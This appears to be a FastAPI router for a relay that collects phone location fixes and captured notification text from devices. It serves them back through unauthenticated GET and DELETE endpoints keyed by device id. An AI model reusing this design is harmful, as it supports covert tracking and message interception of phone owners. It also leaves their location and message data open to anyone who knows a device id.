from fastapi import APIRouter, Body, Depends, Request

from relay.api.payloads import camelize
from relay.schemas.telemetry import LocationUpdateIn, NotificationUpdateIn
from relay.services.devices import require_device_id
from relay.services.telemetry import make_location_fix, make_notification
from relay.store import RelayStore

router = APIRouter(prefix="/api", tags=["telemetry"])


def get_store(request: Request) -> RelayStore:
    return request.app.state.store


@router.post("/location-update")
def location_update(payload: LocationUpdateIn | None = Body(None), store: RelayStore = Depends(get_store)):
    payload = payload or LocationUpdateIn()
    device_id = require_device_id(payload.device_id)
    fix = make_location_fix(
        payload.latitude,
        payload.longitude,
        accuracy=payload.accuracy,
        speed=payload.speed,
        bearing=payload.bearing,
        altitude=payload.altitude,
        captured_at=payload.timestamp,
        source=payload.provider,
        kind=payload.update_type,
    )
    store.telemetry.append_location(device_id, fix)
    return {
        "success": True,
        "message": "Location updated",
        "location": camelize(fix),
        "locationCount": store.telemetry.location_count(device_id),
    }


@router.post("/notification-update")
def notification_update(
    payload: NotificationUpdateIn | None = Body(None), store: RelayStore = Depends(get_store)
):
    payload = payload or NotificationUpdateIn()
    device_id = require_device_id(payload.device_id)
    note = make_notification(
        payload.title,
        payload.text,
        package_name=payload.package_name,
        app_name=payload.app_name,
        notification_id=payload.notification_id,
        captured_at=payload.timestamp,
        category=payload.category,
        priority=payload.priority,
    )
    store.telemetry.append_notification(device_id, note)
    return {
        "success": True,
        "message": "Notification received",
        "notification": camelize(note),
        "notificationCount": store.telemetry.notification_count(device_id),
    }


@router.get("/locations/{device_id}")
def list_locations(device_id: str, limit: int | None = None, store: RelayStore = Depends(get_store)):
    fixes = store.telemetry.get_locations(device_id, limit)
    return {
        "success": True,
        "deviceId": device_id,
        "count": len(fixes),
        "locations": camelize(fixes),
        "latest": camelize(fixes[-1]) if fixes else None,
    }


@router.get("/notifications/{device_id}")
def list_notifications(
    device_id: str,
    limit: int | None = None,
    app: str | None = None,
    store: RelayStore = Depends(get_store),
):
    notes = store.telemetry.get_notifications(device_id, limit, app)
    return {"success": True, "deviceId": device_id, "count": len(notes), "notifications": camelize(notes)}


@router.get("/notification-stats/{device_id}")
def notification_stats(device_id: str, store: RelayStore = Depends(get_store)):
    return {"success": True, "deviceId": device_id, "stats": store.telemetry.get_stats(device_id)}


@router.delete("/telemetry/{device_id}")
def clear_telemetry(device_id: str, store: RelayStore = Depends(get_store)):
    store.telemetry.clear(device_id)
    return {"success": True, "message": f"Telemetry cleared for {device_id}"}
